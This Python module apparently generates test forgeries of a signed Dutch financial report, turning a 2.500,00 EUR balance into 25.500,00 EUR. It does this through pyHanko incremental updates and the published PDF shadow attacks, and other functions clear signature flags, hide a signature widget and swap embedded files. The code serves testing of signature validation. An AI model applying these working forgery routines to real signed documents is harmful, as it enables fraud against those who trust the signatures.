"""Real forgeries of a signed report, made the way an attacker would: incremental updates
written with pyHanko's ``IncrementalPdfFileWriter`` after the signatures, and the shadow
attacks of Mainka, Mladenov and Rohlmann ("Shadow Attacks: Hiding and Replacing Content in
Signed PDFs", NDSS 2021), where the file is prepared before it is signed and changed after.

Each ``after_*`` function takes the bytes of a signed PDF and returns the forged bytes; each
``prepare_*`` function prepares an unsigned PDF and returns it with the function that finishes
the attack on the signed file. The forged amount is drawn over the balance of page 2."""

from __future__ import annotations

import hashlib
import io
import re
import zlib

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

BALANCE = "2.500,00 EUR"  # the signed balance of tests' make_valid_report, in Dutch
FORGED = "25.500,00 EUR"
BALANCE_PAGE = 1  # zero-based


def balance_box(pdf: bytes) -> tuple[float, float, float, float]:
    """Where the balance is printed (x0, y0, x1, y1 in PDF points), found by PDFium."""
    import pypdfium2 as pdfium

    document = pdfium.PdfDocument(pdf)
    try:
        page = document[BALANCE_PAGE]
        text = page.get_textpage()
        searcher = text.search(BALANCE)
        found = searcher.get_next()
        assert found, "balance not found on page 2"
        index, count = found
        boxes = [text.get_charbox(i) for i in range(index, index + count)]
        return (min(b[0] for b in boxes), min(b[1] for b in boxes),
                max(b[2] for b in boxes), max(b[3] for b in boxes))
    finally:
        document.close()


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _page_ref(writer, index: int = BALANCE_PAGE) -> generic.IndirectObject:
    return writer.root["/Pages"]["/Kids"].raw_get(index)


def _overwrite(writer, ref, replacement) -> None:
    """Redefine an existing object under its own number in the update."""
    writer.mark_update(ref)
    writer.objects[(ref.generation, ref.idnum)] = replacement


def _first_content(page) -> generic.IndirectObject:
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.IndirectObject) and isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object()
    return contents.raw_get(0) if isinstance(contents, generic.ArrayObject) else contents


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"), pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
    })


def _box_drawing(width: float, height: float, text: str | None) -> bytes:
    """A white box the size of the balance, with ``text`` right-aligned in it."""
    ops = f"q 1 1 1 rg 0 0 {width:.2f} {height:.2f} re f Q\n"
    if text:
        ops += f"BT /Hv 9 Tf 0 g 1 0 0 1 {max(width - 5.2 * len(text), 0):.2f} 1.5 Tm ({text}) Tj ET\n"
    return ops.encode("latin-1")


def _form_xobject(writer, width, height, text) -> generic.IndirectObject:
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject(generic.FloatObject(v) for v in (0, 0, width, height)),
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Hv"): writer.add_object(_helvetica())})}),
    }, stream_data=_box_drawing(width, height, text))
    return writer.add_object(stream)


def _rect(box, grow: float = 3.0):
    x0, y0, x1, y1 = box
    return x0 - grow, y0 - grow, x1 + grow, y1 + grow


def _annotation(writer, box, subtype: str, text: str, **extra) -> generic.IndirectObject:
    x0, y0, x1, y1 = _rect(box)
    appearance = _form_xobject(writer, x1 - x0, y1 - y0, text)
    annotation = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype),
        pdf_name("/Rect"): generic.ArrayObject(generic.FloatObject(v) for v in (x0, y0, x1, y1)),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        **{pdf_name(k): v for k, v in extra.items()},
    })
    return writer.add_object(annotation)


# --- after the signatures ----------------------------------------------------------------------

def after_signature_widget_overlay(pdf: bytes) -> bytes:
    """A new signature-type field (widget annotation, /FT /Sig) whose appearance draws the
    forged amount over the signed balance: pyHanko's standard policy calls this form filling."""
    writer = _writer(pdf)
    page = _page_ref(writer)
    widget = _annotation(writer, balance_box(pdf), "/Widget", FORGED,
                         **{"/FT": pdf_name("/Sig"), "/T": generic.TextStringObject("overlay"),
                            "/P": page})
    writer.register_annotation(page, widget)
    form = writer.root["/AcroForm"]
    fields = form.raw_get("/Fields")
    if isinstance(fields, generic.IndirectObject):
        writer.mark_update(fields)
    else:
        writer.update_container(form)
    form["/Fields"].append(widget)
    return _write(writer)


def after_info(pdf: bytes) -> bytes:
    """A new title and author in the document information."""
    writer = _writer(pdf)
    info = writer.trailer["/Info"]
    info[pdf_name("/Title")] = generic.TextStringObject("Uniek jaarverslag – gecorrigeerd saldo 25.500,00 EUR")
    info[pdf_name("/Author")] = generic.TextStringObject("Iemand anders")
    writer.update_container(info)
    return _write(writer)


def after_xmp(pdf: bytes) -> bytes:
    """The title in the XMP metadata replaced (the stream redefined under its own number)."""
    writer = _writer(pdf)
    writer._update_meta = lambda: None  # keep pyHanko from rewriting the XMP on its own
    ref = writer.root.raw_get("/Metadata")
    data = ref.get_object().data
    # The PDF/A metadata carries the title (dc:title) of the document information.
    forged = re.sub(rb'(<dc:title[^>]*>\s*<rdf:Alt>\s*<rdf:li xml:lang="x-default">)[^<]*',
                    rb"\1Saldo 25.500,00 EUR", data, count=1)
    assert forged != data
    _overwrite(writer, ref, generic.StreamObject({pdf_name("/Type"): pdf_name("/Metadata"),
                                                  pdf_name("/Subtype"): pdf_name("/XML")}, stream_data=forged))
    return _write(writer)


def after_new_annotation(pdf: bytes) -> bytes:
    """A free-text annotation with the forged amount over the balance."""
    writer = _writer(pdf)
    page = _page_ref(writer)
    annotation = _annotation(writer, balance_box(pdf), "/FreeText", FORGED,
                             **{"/Contents": generic.TextStringObject(FORGED),
                                "/DA": generic.TextStringObject("/Helv 9 Tf 0 g")})
    writer.register_annotation(page, annotation)
    return _write(writer)


def after_hidden_president_stamp(pdf: bytes) -> bytes:
    """The president's signature widget made hidden (annotation flag 2): a changed annotation."""
    writer = _writer(pdf)
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field["/T"] == "president":
            field[pdf_name("/F")] = generic.NumberObject(2)
            writer.update_container(field)
    return _write(writer)


def after_page_content(pdf: bytes) -> bytes:
    """A content stream added to page 2 that paints the forged amount over the balance."""
    writer = _writer(pdf)
    x0, y0, x1, y1 = _rect(balance_box(pdf))
    ops = (f"q 1 0 0 1 {x0:.2f} {y0:.2f} cm ".encode() + _box_drawing(x1 - x0, y1 - y0, FORGED) + b" Q")
    stream = writer.add_object(generic.StreamObject(stream_data=ops))
    resources = generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
        {pdf_name("/Hv"): writer.add_object(_helvetica())})})
    writer.add_stream_to_page(BALANCE_PAGE, stream, resources=resources)
    return _write(writer)


def after_page_resources(pdf: bytes) -> bytes:
    """Page 2's fonts swapped: every regular DejaVu font name now points to the bold one."""
    writer = _writer(pdf)
    page = _page_ref(writer).get_object()
    resources = page["/Resources"]
    fonts = resources["/Font"]
    names = list(fonts.keys())
    bold = next(fonts.raw_get(n) for n in names if "Bold" in str(fonts[n]["/BaseFont"]))
    for name in names:
        fonts[name] = bold
    container = page.raw_get("/Resources")
    if isinstance(container, generic.IndirectObject):
        writer.mark_update(container)
    else:
        writer.update_container(page)
    if isinstance(resources.raw_get("/Font"), generic.IndirectObject):
        writer.mark_update(resources.raw_get("/Font"))
    return _write(writer)


def after_extra_page(pdf: bytes) -> bytes:
    """A third page saying the balance was corrected."""
    writer = _writer(pdf)
    content = writer.add_object(generic.StreamObject(
        stream_data=b"BT /Hv 14 Tf 72 760 Td (Gecorrigeerd saldo: 25.500,00 EUR) Tj ET"))
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 595, 842)),
        pdf_name("/Contents"): content,
        pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
            {pdf_name("/Hv"): writer.add_object(_helvetica())})}),
    })
    writer.insert_page(page)
    return _write(writer)


def after_need_appearances(pdf: bytes) -> bytes:
    """The form's NeedAppearances flag set: viewers redraw the fields' appearances."""
    writer = _writer(pdf)
    form = writer.root["/AcroForm"]
    form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
    writer.update_container(form)
    return _write(writer)


def after_sig_flags(pdf: bytes) -> bytes:
    """The form's SigFlags cleared: viewers no longer treat the file as signed."""
    writer = _writer(pdf)
    form = writer.root["/AcroForm"]
    form[pdf_name("/SigFlags")] = generic.NumberObject(0)
    writer.update_container(form)
    return _write(writer)


def after_attachment(pdf: bytes, new_xml: bytes, *, also_metadata: bool = False) -> bytes:
    """Another embedded submission file (and, for a cleverer forger, its fingerprint in the
    metadata too)."""
    writer = _writer(pdf)
    filespec = writer.root["/Names"]["/EmbeddedFiles"]["/Names"][1].get_object()
    filespec["/EF"] = generic.DictionaryObject(
        {pdf_name("/F"): writer.add_object(generic.StreamObject(stream_data=new_xml))})
    writer.update_container(filespec)
    if also_metadata:
        info = writer.trailer["/Info"]
        info[pdf_name("/Keywords")] = generic.TextStringObject(
            f"clusterReport.xml SHA-256 {hashlib.sha256(new_xml).hexdigest()}")
        writer.update_container(info)
    return _write(writer)


def after_overwritten_content(pdf: bytes) -> bytes:
    """Shadow attack "replace" by overwriting: page 2's content stream redefined (same object
    number) with the balance changed."""
    writer = _writer(pdf)
    ref = _first_content(_page_ref(writer).get_object())
    forged = generic.StreamObject(stream_data=_replace_balance(ref.get_object().data))
    forged.compress()
    _overwrite(writer, ref, forged)
    return _write(writer)


def _replace_balance(data: bytes) -> bytes:
    needle = b"(2.500,00 EUR)"
    assert needle in data, "the balance is not drawn as one string any more"
    return data.replace(needle, b"(25.500,00 EUR)", 1)


def after_font_program(pdf: bytes) -> bytes:
    """Shadow attack "replace" through a font: the regular DejaVu font program overwritten (same
    object number) with the bold one, so every glyph on every page is drawn differently."""
    writer = _writer(pdf)
    page = _page_ref(writer).get_object()
    fonts = page["/Resources"]["/Font"]
    regular = bold = None
    for name in fonts:
        font = fonts[name]
        if "/FontDescriptor" not in font:
            continue
        if "Bold" in str(font["/BaseFont"]):
            bold = font["/FontDescriptor"]["/FontFile2"]
        else:
            regular = font["/FontDescriptor"].raw_get("/FontFile2")
    assert regular is not None and bold is not None
    replacement = generic.StreamObject(dict(bold.items()), encoded_data=bold.encoded_data)
    _overwrite(writer, regular, replacement)
    return _write(writer)


# --- shadow attacks: prepared before signing, finished after -------------------------------------

def prepare_hide(unsigned: bytes):
    """Hide: the forged amount is in the signed content but covered by an overlay
    annotation that shows the real one; after signing, the overlay is removed from the page."""
    writer = _writer(unsigned)
    page = _page_ref(writer)
    x0, y0, x1, y1 = _rect(balance_box(unsigned))
    ops = f"q 1 0 0 1 {x0:.2f} {y0:.2f} cm ".encode() + _box_drawing(x1 - x0, y1 - y0, FORGED) + b" Q"
    writer.add_stream_to_page(BALANCE_PAGE, writer.add_object(generic.StreamObject(stream_data=ops)),
                              resources=generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject(
                                  {pdf_name("/Hv"): writer.add_object(_helvetica())})}))
    overlay = _annotation(writer, balance_box(unsigned), "/Square", BALANCE,
                          **{"/NM": generic.TextStringObject("overlay")})
    writer.register_annotation(page, overlay)
    prepared = _write(writer)

    def finish(signed: bytes) -> bytes:
        w = _writer(signed)
        page_ref = _page_ref(w)
        page_obj = page_ref.get_object()
        annots = page_obj.raw_get("/Annots")
        array = annots.get_object()
        kept = generic.ArrayObject(a for a in array if a.get_object().get("/NM") != "overlay")
        if isinstance(annots, generic.IndirectObject):
            _overwrite(w, annots, kept)
        else:
            page_obj[pdf_name("/Annots")] = kept
            w.update_container(page_obj)
        return _write(w)

    return prepared, finish


def prepare_replace_form(unsigned: bytes):
    """Replace: a text field showing the real balance is signed; afterwards its value and
    appearance are changed to the forged amount, which pyHanko's standard policy allows as
    form filling."""
    writer = _writer(unsigned)
    page = _page_ref(writer)
    field = _annotation(writer, balance_box(unsigned), "/Widget", BALANCE,
                        **{"/FT": pdf_name("/Tx"), "/T": generic.TextStringObject("saldo"),
                           "/V": generic.TextStringObject(BALANCE), "/P": page,
                           "/DA": generic.TextStringObject("/Helv 9 Tf 0 g")})
    writer.register_annotation(page, field)
    form = writer.root["/AcroForm"]
    fields = form.raw_get("/Fields")
    if isinstance(fields, generic.IndirectObject):
        writer.mark_update(fields)
    else:
        writer.update_container(form)
    form["/Fields"].append(field)
    prepared = _write(writer)

    def finish(signed: bytes) -> bytes:
        w = _writer(signed)
        for ref in w.root["/AcroForm"]["/Fields"]:
            f = ref.get_object()
            if f["/T"] == "saldo":
                x0, y0, x1, y1 = (float(v) for v in f["/Rect"])
                f[pdf_name("/V")] = generic.TextStringObject(FORGED)
                f[pdf_name("/AP")] = generic.DictionaryObject(
                    {pdf_name("/N"): _form_xobject(w, x1 - x0, y1 - y0, FORGED)})
                w.update_container(f)
        return _write(w)

    return prepared, finish


def prepare_hide_and_replace(unsigned: bytes):
    """Hide-and-replace: a whole forged page content is put in the file before signing but
    used nowhere; afterwards page 2 is pointed at it."""
    writer = _writer(unsigned)
    page = _page_ref(writer).get_object()
    original = _first_content(page).get_object()
    shadow = writer.add_object(generic.StreamObject(stream_data=_replace_balance(original.data)))
    writer.update_root()  # an update that carries the unused object
    prepared = _write(writer)
    shadow_ref = shadow.reference

    def finish(signed: bytes) -> bytes:
        w = _writer(signed)
        page_ref = _page_ref(w)
        page_obj = page_ref.get_object()
        page_obj[pdf_name("/Contents")] = generic.IndirectObject(shadow_ref.idnum, shadow_ref.generation, w)
        w.update_container(page_obj)
        return _write(w)

    return prepared, finish


def after_new_catalog(pdf: bytes) -> bytes:
    """Shadow attack "hide-and-replace" by a whole new document: the update's trailer points to
    a new catalog whose page tree holds page 1 and a forged copy of page 2; no old object is
    touched."""
    writer = _writer(pdf)
    writer._update_meta = lambda: None  # a forger's writer leaves the metadata alone
    old_root = writer.root
    kids = old_root["/Pages"]["/Kids"]
    page = kids[BALANCE_PAGE]
    forged_page = generic.DictionaryObject({key: page.raw_get(key) for key in page.keys()})
    forged_page[pdf_name("/Contents")] = writer.add_object(
        generic.StreamObject(stream_data=_replace_balance(_first_content(page).get_object().data)))
    forged_page.pop("/Annots", None)  # and no signature boxes to betray the signatures
    pages = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Pages"), pdf_name("/Count"): generic.NumberObject(len(kids)),
    })
    pages_ref = writer.add_object(pages)
    forged_page[pdf_name("/Parent")] = pages_ref
    pages[pdf_name("/Kids")] = generic.ArrayObject(
        [kids.raw_get(0), writer.add_object(forged_page)] + [kids.raw_get(i) for i in range(2, len(kids))])
    root = generic.DictionaryObject({key: old_root.raw_get(key) for key in old_root.keys()})
    root[pdf_name("/Pages")] = pages_ref
    writer._root = writer.add_object(root)
    return _write(writer)
